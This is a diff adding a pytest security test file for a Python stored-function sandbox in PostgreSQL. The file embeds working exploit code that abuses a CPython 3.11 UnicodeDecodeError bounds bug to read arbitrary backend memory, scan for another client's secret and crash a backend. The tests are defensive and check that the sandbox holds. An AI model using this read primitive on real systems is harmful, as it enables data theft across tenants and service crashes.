@@ -1,0 +1,163 @@
+"""Round 81: `UnicodeDecodeError.__str__` in Debian's CPython 3.11.2 reads the byte at
+`object[start]` with no check that `start` is not negative (gh-123378, fixed upstream in
+3.12.6/3.13; 3.11 got no fix). The constructor checks neither `start` nor `end`, and a
+routine may build exceptions freely, so `str(UnicodeDecodeError("utf-8", b, off, off + 1,
+"r"))` reads one byte of the backend's memory at `id(b) + 32 + off` for any `off < 0`:
+an arbitrary read of everything below an object of the routine's, with `id()` telling
+where things are.
+
+Promises attacked: no way out of pure computation / to the runtime's internals (1), no
+call affecting another (2: a previous client's data is read), no crash of the cluster
+(5). A passing test: the promise held. Each test's docstring says what it tried."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import psycopg
+import pytest
+
+from pyfuncs import deploy as deploying
+from pyfuncs.embedded import Cluster
+
+from .conftest import mallory_dsn, timed, value
+
+MODULE = '''
+from pyfuncs import stored_function
+
+_ANCHORS = [bytes([i % 251]) * 8 for i in range(4000)]
+
+
+def _byte_at(b: bytes, off: int) -> int:
+    text = str(UnicodeDecodeError("utf-8", b, off, off + 1, "r"))
+    return int(text.split("byte 0x")[1][:2], 16)
+
+
+def _read(addr: int, n: int, anchors: list[bytes]) -> bytes:
+    """n bytes of the backend's memory at addr, through an anchor above it."""
+    above = [a for a in anchors + _ANCHORS if id(a) + 32 > addr + n]
+    if not above:
+        raise ValueError("no anchor above")
+    b = min(above, key=id)
+    base = id(b) + 32
+    return bytes([_byte_at(b, addr + k - base) for k in range(n)])
+
+
+@stored_function(schema="r81")
+def oob_byte(off: int) -> str:
+    """The message str() of such an exception gives (what byte it 'read')."""
+    return str(UnicodeDecodeError("utf-8", b"a", off, off + 1, "r"))
+
+
+@stored_function(schema="r81")
+def type_pointer() -> bool:
+    """Reads ob_type of an int of its own: 8 bytes at id(x) + 8, compared with id(int)."""
+    x = 10**30
+    fresh = [bytes([i % 251]) * 8 for i in range(4000)]
+    return int.from_bytes(_read(id(x) + 8, 8, fresh), "little") == id(int)
+
+
+@stored_function(schema="r81")
+def echo(secret: str) -> int:
+    """Another role's routine: its argument becomes a Python str, freed after the call."""
+    kept = [secret + "|" + str(i) for i in range(50)]
+    return len(kept)
+
+
+@stored_function(schema="r81", timeout_ms=20000)
+def scan(marker: str, span: int) -> str:
+    """Scans `span` bytes below each anchor for the marker; returns what follows it."""
+    m = marker.encode()
+    found = []
+    seen = set()
+    for b in sorted(_ANCHORS, key=id, reverse=True)[:: max(1, len(_ANCHORS) // 64)]:
+        base = id(b) + 32
+        off = -1
+        while off > -span:
+            a = base + off
+            if a in seen:
+                break
+            seen.add(a)
+            if _byte_at(b, off) == m[0]:
+                got = bytes([_byte_at(b, off + k) for k in range(len(m))])
+                if got == m:
+                    tail = bytes([_byte_at(b, off + len(m) + k) for k in range(20)])
+                    if tail[:4].isalnum():  # not the marker this call was given
+                        return (got + tail).decode("ascii", "replace")
+            off -= 1
+    return ""
+'''
+
+
+@pytest.fixture
+def r81(dsn: str, conn: psycopg.Connection[Any], cluster: Cluster, tmp_path: Path,
+        mallory_role: str) -> Any:  # fmt: skip
+    (tmp_path / "r81_mod.py").write_text(MODULE)
+    deploying.deploy(conn, str(tmp_path / "r81_mod.py"))
+    conn.execute("GRANT USAGE ON SCHEMA r81 TO mallory")
+    conn.execute("GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA r81 TO mallory")
+    conn.commit()
+    postmaster = cluster.postmaster_pid()
+    log_size = cluster.log_file.stat().st_size
+    yield dsn
+    assert cluster.postmaster_pid() == postmaster, "the cluster restarted"
+    with cluster.log_file.open(errors="replace") as log:
+        log.seek(log_size)
+        tail = log.read()
+    assert "all server processes terminated" not in tail, "the cluster restarted"
+
+
+def _connect(dsn: str) -> psycopg.Connection[Any]:
+    return psycopg.connect(mallory_dsn(dsn), autocommit=True)
+
+
+def test_a_unicode_decode_errors_str_reads_no_byte_outside_its_object(r81: str) -> None:
+    """str(UnicodeDecodeError('utf-8', b'a', -16, -15, 'r')): the message names a byte that
+    is not in b'a' (one below its data), or the construction/str is refused."""
+    with _connect(r81) as c:
+        got, _ = timed(c, "SELECT r81.oob_byte(-16)")
+        print(got)
+        if isinstance(got, psycopg.Error):
+            return  # refused: held
+        assert "byte 0x61" in got[0] or "byte" not in got[0], got
+
+
+def test_a_routine_cannot_read_its_backends_memory(r81: str) -> None:
+    """The read primitive: 8 bytes at id(x) + 8 of an int of the routine's own are its
+    type pointer, id(int): a routine reading the backend's memory at an address of its
+    choosing (the runtime's objects, PostgreSQL's memory, anything below an anchor)."""
+    with _connect(r81) as c:
+        got, _ = timed(c, "SELECT r81.type_pointer()")
+        print(got)
+        assert isinstance(got, psycopg.Error) or got[0] is not True, "arbitrary read"
+
+
+def test_a_routine_cannot_read_a_previous_clients_argument(
+    r81: str, conn: psycopg.Connection[Any]
+) -> None:
+    """A pooled session: the superuser calls a routine with a secret argument; then, as
+    mallory (SET SESSION AUTHORIZATION), a routine scans the memory below its objects for
+    the secret's prefix and returns what follows it."""
+    conn.autocommit = True
+    secret = "TOPSECRET-" + "k3y0f4n0th3rr0l3"
+    assert value(conn, "SELECT r81.echo(%s)", [secret]) == 50
+    conn.execute("SET SESSION AUTHORIZATION mallory")
+    got, took = timed(conn, "SELECT r81.scan('TOPSECRET-', 1000000)")
+    conn.execute("RESET SESSION AUTHORIZATION")
+    print(got, took)
+    leaked = not isinstance(got, psycopg.Error) and "k3y0f4n0" in got[0]
+    assert not leaked, f"another client's secret read: {got!r}"
+
+
+@pytest.mark.parametrize("off", [-(1 << 40), -(1 << 44)])
+def test_a_fault_from_an_out_of_bounds_read_ends_only_the_session(r81: str, off: int) -> None:
+    """The same read far below any mapping (SIGSEGV in the backend): the session may end,
+    the cluster must not go through crash recovery (checked by the fixture), and other
+    sessions keep working."""
+    with _connect(r81) as other:
+        assert value(other, "SELECT 1") == 1
+        with _connect(r81) as c:
+            got, _ = timed(c, "SELECT r81.oob_byte(%s)", [off])
+            print(got)
+        assert value(other, "SELECT 1") == 1
